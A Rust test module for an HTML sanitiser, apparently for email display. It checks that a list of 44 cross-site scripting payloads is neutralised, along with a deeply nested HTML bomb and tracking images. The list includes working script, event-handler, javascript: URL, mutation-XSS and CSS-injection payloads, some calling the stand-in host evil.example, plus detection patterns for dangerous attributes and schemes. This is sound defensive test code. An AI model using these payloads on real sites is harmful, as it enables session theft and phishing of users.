//! Scenes of hostile HTML: what is shown never runs, loads or leaves its box, and still reads well when parsed again.

use super::*;
use proptest::prelude::*;

fn none(_: &str) -> Option<String> {
    None
}

fn blocked(html: &str) -> String {
    sanitise(html, &none, RemoteImages::Blocked).html
}

/// Looks at tags and attributes of serialised HTML the way a browser would, not at words in text.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in html.split('<').skip(1) {
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect::<String>()
            .to_ascii_lowercase();
        if !TAGS.contains(&name.as_str()) {
            found.push(format!("tag {name}"));
        }
    }
    let reparsed = cleaner(Arc::default()).clean(html).to_string();
    let strict = strip_sources(html);
    if strip_sources(&reparsed) != strict {
        found.push(format!("means something else when parsed again: {reparsed}"));
    }
    for tag in tags(html).map(str::to_ascii_lowercase) {
        for attribute in [" on", " srcdoc=", " formaction=", " action=", " xlink", " id=", " class=", " srcset=", " background="] {
            if outside_quotes(&tag).contains(attribute) {
                found.push(format!("attribute {attribute} in {tag}"));
            }
        }
        for value in tag.split("href=\"").skip(1).chain(tag.split("src=\"").skip(1)) {
            if ["javascript:", "vbscript:", "data:text", "data:image/svg"]
                .iter()
                .any(|scheme| value.trim_start().starts_with(scheme))
            {
                found.push(format!("link {value}"));
            }
        }
        if ["position", "url(", "expression", "binding"]
            .iter()
            .any(|word| tag.split("style=\"").skip(1).any(|style| style.contains(word)))
        {
            found.push(format!("style in {tag}"));
        }
    }
    found
}

/// The tags of serialised HTML, attributes and all.
fn tags(html: &str) -> impl Iterator<Item = &str> {
    let mut rest = html;
    std::iter::from_fn(move || {
        let from = &rest[rest.find('<')?..];
        let (tag, after) = from.split_at(images::tag_end(from));
        rest = after;
        Some(tag)
    })
}

fn outside_quotes(tag: &str) -> String {
    tag.split('"').step_by(2).collect::<Vec<_>>().join("\"")
}

fn strip_sources(html: &str) -> String {
    let safe = images::rewrite(html, &none, RemoteImages::Blocked);
    safe.html
}

const HOSTILE: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>hi",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css); body{position:fixed}</style>",
    "<div style=\"position:fixed;inset:0;background:url(https://evil.example/t.gif)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(evil.xml#x)\">x</div>",
    "<div style=\"background:\\75rl(https://evil.example/t.gif)\">x</div>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"https://evil.example/t.gif 1x\">",
    "<video src=https://evil.example/v onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=https://evil.example/t.gif><td background=javascript:alert(1)>x</table>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<p title='\"><script>alert(1)</script>'>x",
    "<select><template><style></select><img src=x onerror=alert(1)>",
];

#[test]
fn attack_06_hostile_html_is_harmless_afterwards() {
    for html in HOSTILE {
        let safe = blocked(html);

        assert_eq!(dangers(&safe), Vec::<String>::new(), "{html}\n became {safe}");
        assert!(!safe.contains("evil.example"), "{html}\n became {safe}");
    }
}

#[test]
fn an_ordinary_letter_keeps_its_looks() {
    let html = "<p style=\"color:red\">Hi <b>Ana</b>, <a href=\"https://x.example/?a=1&amp;b=2\">look</a><br>Mia</p><table border=1><tr><td colspan=2>5 €</td></tr></table>";

    let safe = blocked(html);

    assert_eq!(
        safe,
        "<p style=\"color:red\">Hi <b>Ana</b>, <a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">look</a><br>Mia</p><table border=\"1\"><tbody><tr><td colspan=\"2\">5 €</td></tr></tbody></table>"
    );
}

#[test]
fn attack_07_remote_images_are_counted_and_wait_until_asked_for() {
    let html = "<img src=\"https://t.example/1.gif?a=1&amp;b=2\" alt=\"Kettle\"><img src=cid:logo@x><table background=//t.example/2></table><p style=\"background:url(http://t.example/3)\">";
    let inline = |id: &str| (id == "logo@x").then(|| "/attachments/7".to_owned());
    let proxy = |url: &str| format!("/proxy?url=[{url}]");

    let before = sanitise(html, &inline, RemoteImages::Blocked);
    let after = sanitise(html, &inline, RemoteImages::Proxied(&proxy));

    assert!(
        !before.html.contains("t.example") && before.html.contains("alt=\"Kettle\"") && before.html.contains("src=\"/attachments/7\""),
        "{}",
        before.html
    );
    assert!(after.html.contains("src=\"/proxy?url=[https://t.example/1.gif?a=1&amp;b=2]\""), "{}", after.html);
    assert_eq!((before.remote_images, after.remote_images), (3, 3));
}

#[test]
fn small_pictures_inside_the_html_are_shown() {
    let png = "data:image/png;base64,iVBORw0KGgo=";

    assert!(blocked(&format!("<img src=\"{png}\">")).contains(png));
    assert!(!blocked("<img src=\"data:image/png;base64,PHN2Zz4=\">").contains("data:"));
}

#[test]
fn attack_10_html_that_would_explode_becomes_text() {
    let bomb: String = (0..40_000).map(|n| format!("<b id={n}>")).chain((0..40_000).map(|_| "<p>x".to_owned())).collect();
    let deep = "<div>".repeat(100_000) + "deep";

    assert!(blocked(&bomb).len() < 10 * bomb.len());
    assert!(blocked(&deep).contains("deep"));
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(300) })]
    #[test]
    fn attack_06_nothing_dangerous_survives_however_it_is_mixed(pieces in prop::collection::vec((0..HOSTILE.len(), any::<u8>(), any::<u8>()), 1..4)) {
        let mixed: String = pieces.iter().map(|(which, from, len)| {
            let chars: Vec<char> = HOSTILE[*which].chars().collect();
            let from = *from as usize % chars.len();
            chars[from..].iter().chain(&chars[..from]).take(*len as usize + 1).collect::<String>()
        }).collect();

        let safe = blocked(&mixed);

        prop_assert!(dangers(&safe).is_empty(), "{}\n became {}\n {:?}", mixed, safe, dangers(&safe));
    }
}
